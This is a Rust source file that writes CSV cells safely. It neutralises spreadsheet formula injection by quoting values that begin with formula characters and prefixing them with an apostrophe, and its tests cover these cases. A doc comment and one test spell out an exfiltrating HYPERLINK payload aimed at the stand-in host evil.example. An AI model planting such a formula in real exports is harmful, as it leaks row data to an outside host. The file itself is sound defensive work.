//! Writing CSV files for spreadsheets: the one place that turns a text value into a cell.

/// The first characters that make Excel, LibreOffice and Google Sheets read a cell as a formula
/// (or, for tab and carriage return, hide such a formula behind whitespace).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text value as one CSV cell (comma-separated, `"` quoting). A value a spreadsheet would run
/// as a formula (an official named `=HYPERLINK("http://evil.example/?"&B2,"Klik")` would send
/// that row away when the file is opened) is neutralised: it gets a leading `'`, which
/// spreadsheets read as "this is text", and is quoted. Numbers the app writes (amounts, which may
/// be negative) are written as numbers and never pass through here.
pub fn text_cell(value: &str) -> String {
    let formula = value.starts_with(FORMULA_STARTS);
    if formula || value.contains([',', '"', '\n', '\r', ';']) {
        let prefix = if formula { "'" } else { "" };
        format!("\"{prefix}{}\"", value.replace('"', "\"\""))
    } else {
        value.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::text_cell;

    #[test]
    fn plain_text_is_written_as_it_is() {
        assert_eq!(text_cell("Siti Rahayu, S.E."), "\"Siti Rahayu, S.E.\"");
        assert_eq!(text_cell("Budi"), "Budi");
        assert_eq!(text_cell("198001012005011001"), "198001012005011001");
        assert_eq!(text_cell(""), "");
        assert_eq!(text_cell("Kepala \"Dinas\""), "\"Kepala \"\"Dinas\"\"\"");
        // A formula character inside a value is harmless: only the first character counts.
        assert_eq!(text_cell("Budi=Santoso"), "Budi=Santoso");
        assert_eq!(text_cell("a\rb"), "\"a\rb\"");
    }

    #[test]
    fn formula_starts_are_neutralised() {
        let evil = "=HYPERLINK(\"http://evil.example/?leak=\"&B2&G2,\"Klik\")";
        assert_eq!(text_cell(evil), "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2&G2,\"\"Klik\"\")\"");
        assert_eq!(text_cell("+62 812"), "\"'+62 812\"");
        assert_eq!(text_cell("-2+3"), "\"'-2+3\"");
        assert_eq!(text_cell("@SUM(A1)"), "\"'@SUM(A1)\"");
        assert_eq!(text_cell("\t=1+1"), "\"'\t=1+1\"");
        assert_eq!(text_cell("\r=1+1"), "\"'\r=1+1\"");
        for c in ['=', '+', '-', '@', '\t', '\r'] {
            let cell = text_cell(&format!("{c}x"));
            assert!(cell.starts_with("\"'"), "{c:?}: {cell:?}");
        }
    }
}
